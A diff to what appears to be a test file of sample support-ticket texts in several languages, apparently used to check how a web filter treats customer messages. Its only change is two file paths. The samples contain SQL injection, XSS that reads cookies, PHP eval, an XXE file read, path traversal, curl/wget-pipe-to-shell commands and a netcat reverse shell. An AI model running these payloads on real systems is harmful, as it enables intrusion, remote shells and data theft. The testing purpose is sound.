@@ -19,7 +19,7 @@ HOST = {"Host": "support.example.com", "User-Agent": "Mozilla/5.0 (X11; Linux x8
 TEXTS = {
     "sql": "This fails:\n\n    SELECT * FROM users WHERE name = '' OR 1=1; -- ' AND password = 'x'\n    DROP TABLE orders;\n    INSERT INTO a VALUES (1, 'b') UNION ALL SELECT NULL, @@version, sleep(5) FROM information_schema.tables",
     "sql-error": "ERROR 1064 (42000): You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''' at line 1\nWarning: mysql_fetch_array() expects parameter 1 to be resource\nORA-01756: quoted string not properly terminated",
-    "php": "<?php\n$db = mysqli_connect('localhost', $_GET['user'], $_POST['pw']);\neval(base64_decode('ZWNobyAx'));\nsystem('ls -la /var/www'); phpinfo();\n?>\n\nPHP Fatal error:  Uncaught Error: Call to undefined function in /home/www/index.php:12",
+    "php": "<?php\n$db = mysqli_connect('localhost', $_GET['user'], $_POST['pw']);\neval(base64_decode('ZWNobyAx'));\nsystem('ls -la /var/www'); phpinfo();\n?>\n\nPHP Fatal error:  Uncaught Error: Call to undefined function in /srv/www/index.php:12",
     "html": "<script>alert(document.cookie)</script> <img src=x onerror=\"alert(1)\"> <iframe src=\"javascript:alert(1)\"></iframe>\n<a href=\"#\" onclick='x()'>x</a> <style>@import url(//example.com/a.css)</style>",
     "shell": "I ran `wget http://example.com/x.sh | sh; cat /etc/passwd && rm -rf /tmp/*` and then\n\n    $(curl -s https://example.com/install.sh | bash -s -- --yes)\n    ping -c 4 127.0.0.1; nc -e /bin/sh 10.0.0.1 4444\n    powershell -enc SQBFAFgA; cmd.exe /c dir C:\\Windows\\System32",
     "paths": "../../../../etc/passwd is in the log, and /proc/self/environ, C:\\boot.ini, file:///etc/shadow, php://input, .htaccess, wp-config.php, /.git/config",
@@ -33,7 +33,7 @@ TEXTS = {
     "xml": "<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]><a>&b;</a> //user[name/text()='' or '1'='1']",
     "address": "http://192.0.2.10/index.php does not open, https://203.0.113.7/?page=http://192.0.2.1/x.txt does; ftp://10.0.0.1/ too",
     "cookie": "document.cookie = \"PHPSESSID=1; domain=.example.com\"; Set-Cookie: a=b; http-equiv=\"Set-Cookie\" jsessionid=5 phpsessid=7",
-    "cron": "*/5 * * * * /usr/bin/php -q /home/www/cron.php > /dev/null 2>&1; sudo chmod -R 777 /var/www; find / -name '*.bak' -exec rm {} \\;",
+    "cron": "*/5 * * * * /usr/bin/php -q /srv/www/cron.php > /dev/null 2>&1; sudo chmod -R 777 /var/www; find / -name '*.bak' -exec rm {} \\;",
     "serbian-latin": "Poštovani, sajt ne radi od juče; šaljem snimak ekrana. Da li možete „vratiti“ bazu – hitno! Đorđe & Ćira, 50% popusta, 1.234,56 RSD",
     "serbian-cyrillic": "Поштовани, сајт не ради од јуче (грешка 500). Шаљем снимак екрана; „хитно“ — Ђорђе Љубичић, улица Његошева бр. 5/III",
     "emoji": "It works now 👍🏽 — thanks!!! :) <3 ;-) (see http://example.com/?a=1&b=2#c) 100% ok @ 5 o'clock, O'Brien \"quoted\" `code` *bold* _x_ ~~y~~ | a | b |",
